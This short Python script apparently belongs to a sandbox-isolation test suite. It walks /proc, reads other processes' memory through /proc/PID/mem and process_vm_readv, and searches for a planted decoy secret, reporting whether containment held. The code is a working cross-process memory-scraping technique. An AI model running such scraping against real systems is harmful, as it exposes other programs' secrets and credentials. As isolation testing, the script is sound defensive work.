"""Looks for secrets in the memory of every process that it can name."""

import ctypes
import os
import re

from attack import KNOWN, LIBC, escaped, held

PATTERN = re.compile(rb"punctual-decoy-[0-9a-f]{32}")


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def by_file(pid, start, size):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        return memory.read(size)


def by_call(pid, start, size):
    buffer = ctypes.create_string_buffer(size)
    here, there = Vector(ctypes.addressof(buffer), size), Vector(start, size)
    got = LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return buffer.raw[:got]


read = {by_file: 0, by_call: 0}
for pid in {1, 2, os.getppid(), KNOWN["worker"], *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
    if pid in (os.getpid(), 0):
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps:
            areas = [line.split()[:2] for line in maps]
    except OSError:
        areas = [("400000-401000", "r")]
    for area, mode in areas:
        start, end = (int(part, 16) for part in area.split("-"))
        for reader in (by_file, by_call):
            try:
                data = reader(pid, start, min(end - start, 1 << 20)) if mode.startswith("r") else b""
            except (OSError, OverflowError):
                continue
            read[reader] += len(data)
            if found := PATTERN.findall(data):
                escaped("secret in memory", found)
held("memory") if not read[by_call] else escaped("memory by process_vm_readv", read[by_call])
